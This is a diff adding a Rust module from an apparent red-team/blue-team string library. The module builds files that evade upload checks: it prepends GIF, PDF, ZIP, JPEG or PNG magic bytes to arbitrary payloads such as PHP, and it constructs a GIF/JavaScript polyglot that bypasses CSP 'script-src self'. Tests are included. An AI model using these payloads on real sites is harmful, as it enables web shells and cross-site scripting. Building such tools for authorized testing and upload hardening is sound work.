@@ -0,0 +1,136 @@
+/// File format whose signature [`prepend_magic_bytes`] writes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileFormat {
+    /// GIF image, `GIF89a`.
+    Gif,
+    /// PDF document, `%PDF-1.4` followed by a newline.
+    Pdf,
+    /// ZIP archive (also DOCX, JAR, APK), `PK\x03\x04`.
+    Zip,
+    /// JPEG image, `\xFF\xD8\xFF\xE0` (start of image and APP0 marker).
+    Jpeg,
+    /// PNG image, `\x89PNG\r\n\x1A\n`.
+    Png,
+}
+
+impl FileFormat {
+    /// Leading bytes content sniffers match for this format.
+    pub fn magic_bytes(self) -> &'static [u8] {
+        match self {
+            FileFormat::Gif => b"GIF89a",
+            FileFormat::Pdf => b"%PDF-1.4\n",
+            FileFormat::Zip => b"PK\x03\x04",
+            FileFormat::Jpeg => b"\xFF\xD8\xFF\xE0",
+            FileFormat::Png => b"\x89PNG\r\n\x1A\n",
+        }
+    }
+}
+
+/// Prefixes `payload` with the file signature of `format`.
+///
+/// Upload validators that trust `finfo`/libmagic, `getimagesize`-style
+/// header checks or browser content sniffing see the declared format, while
+/// the rest of the file is the unchanged payload (a script, HTML, an
+/// archive member...).
+///
+/// # Use Cases
+///
+/// - **Red Team**: Pass content-type checks that only read the first bytes
+/// - **Blue Team**: Verify uploads are fully parsed or re-encoded, not sniffed
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{prepend_magic_bytes, FileFormat};
+/// let file = prepend_magic_bytes(b"<?php echo 1; ?>", FileFormat::Gif);
+/// assert_eq!(file, b"GIF89a<?php echo 1; ?>".to_vec());
+/// ```
+pub fn prepend_magic_bytes(payload: &[u8], format: FileFormat) -> Vec<u8> {
+    let magic = format.magic_bytes();
+    let mut file = Vec::with_capacity(magic.len() + payload.len());
+    file.extend_from_slice(magic);
+    file.extend_from_slice(payload);
+    file
+}
+
+/// Builds a file that is both a valid 1x1 GIF image and valid JavaScript running `js`.
+///
+/// The logical screen width is the bytes `/*`, so to a JavaScript parser the
+/// file reads `GIF89a/*<binary>*/=1;<js>`: an assignment to the global
+/// `GIF89a` followed by `js`. Image decoders stop at the GIF trailer, before
+/// the script. Served from the target's own origin, the image satisfies
+/// `script-src 'self'` when loaded with `<script src>`.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass CSP `script-src 'self'` through image uploads
+/// - **Blue Team**: Verify uploaded images are re-encoded and served with `nosniff`
+///
+/// # Examples
+///
+/// ```
+/// use redstr::gif_js_polyglot;
+/// let file = gif_js_polyglot("alert(1)");
+/// assert!(file.starts_with(b"GIF89a/*"));
+/// assert!(file.ends_with(b"*/=1;alert(1)"));
+/// ```
+pub fn gif_js_polyglot(js: &str) -> Vec<u8> {
+    let mut file = FileFormat::Gif.magic_bytes().to_vec();
+    // Logical screen descriptor: width "/*", height 10, no global color table
+    file.extend_from_slice(b"/*\x0A\x00\x00\x00\x00");
+    // Image descriptor: 1x1 at the origin, no local color table
+    file.extend_from_slice(b"\x2C\x00\x00\x00\x00\x01\x00\x01\x00\x00");
+    // LZW-compressed single pixel, then the trailer
+    file.extend_from_slice(b"\x02\x02\x44\x01\x00\x3B");
+    file.extend_from_slice(b"*/=1;");
+    file.extend_from_slice(js.as_bytes());
+    file
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_prepend_magic_bytes_each_format() {
+        let cases: [(FileFormat, &[u8]); 5] = [
+            (FileFormat::Gif, b"GIF89a"),
+            (FileFormat::Pdf, b"%PDF-"),
+            (FileFormat::Zip, b"PK\x03\x04"),
+            (FileFormat::Jpeg, b"\xFF\xD8"),
+            (FileFormat::Png, b"\x89PNG"),
+        ];
+        for (format, prefix) in cases {
+            let file = prepend_magic_bytes(b"payload", format);
+            assert!(file.starts_with(prefix), "{:?}", format);
+            assert!(file.ends_with(b"payload"));
+            assert_eq!(file.len(), format.magic_bytes().len() + 7);
+        }
+    }
+
+    #[test]
+    fn test_prepend_magic_bytes_empty_payload() {
+        assert_eq!(
+            prepend_magic_bytes(b"", FileFormat::Zip),
+            b"PK\x03\x04".to_vec()
+        );
+    }
+
+    #[test]
+    fn test_gif_js_polyglot_gif_structure() {
+        let file = gif_js_polyglot("alert(1)");
+        assert_eq!(&file[..6], b"GIF89a");
+        // Width is little-endian "/*"
+        assert_eq!(u16::from_le_bytes([file[6], file[7]]), 0x2A2F);
+        let trailer = file.iter().position(|&b| b == 0x3B).unwrap();
+        assert_eq!(&file[trailer + 1..trailer + 3], b"*/");
+    }
+
+    #[test]
+    fn test_gif_js_polyglot_comment_closes_once() {
+        let file = gif_js_polyglot("alert(document.domain)");
+        let closes = file.windows(2).filter(|pair| pair == b"*/").count();
+        assert_eq!(closes, 1);
+        assert!(file.ends_with(b"*/=1;alert(document.domain)"));
+    }
+}